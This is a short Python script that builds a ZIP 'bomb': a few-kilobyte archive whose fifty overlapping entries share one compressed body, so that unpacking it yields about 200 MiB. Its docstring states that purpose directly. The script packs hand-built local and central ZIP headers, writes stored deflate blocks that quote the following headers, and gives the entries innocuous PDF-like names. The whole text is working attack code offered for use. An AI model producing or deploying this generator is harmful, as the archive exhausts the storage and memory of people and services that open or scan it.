"""overlap.py FILE: an archive of a few kilobytes whose entries lie over each other: each holds, as its
bytes, the heads of all behind it and the one body at the end.  200 MiB to whoever unpacks it."""
import struct
import sys
import zlib

ENTRIES, BODY = 50, bytes(4 << 20)


def head(name, checksum, packed, size):
    return struct.pack("<4s5H3I2H", b"PK\3\4", 20, 0, 8, 0, 33, checksum, packed, size, len(name), 0) + name


def quoted(data):
    """A block of deflate that holds the bytes as they are, and is not the last."""
    return struct.pack("<BHH", 0, len(data), len(data) ^ 0xFFFF)


def main():
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = deflate.compress(BODY) + deflate.flush()
    facts, heads = [], []
    packed, size = len(body), len(BODY)
    for number in reversed(range(ENTRIES)):
        checksum = zlib.crc32(BODY, zlib.crc32(b"".join(heads)))
        fact = (b"13.01/%05d.pdf" % number, checksum, packed, size)
        facts.insert(0, fact)
        heads.insert(0, head(*fact))
        packed, size = packed + len(quoted(b"")) + len(heads[0]), size + len(heads[0])
    out, central = b"", b""
    for fact, own in zip(facts, heads):
        out += quoted(own) if out else b""
        name, checksum, packed, size = fact
        central += struct.pack("<4s6H3I5H2I", b"PK\1\2", 20, 20, 0, 8, 0, 33, checksum, packed, size, len(name),
                               0, 0, 0, 0, 0, len(out)) + name
        out += own
    out += body
    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, ENTRIES, ENTRIES, len(central), len(out), 0)
    open(sys.argv[1], "wb").write(out + central + end)


main()
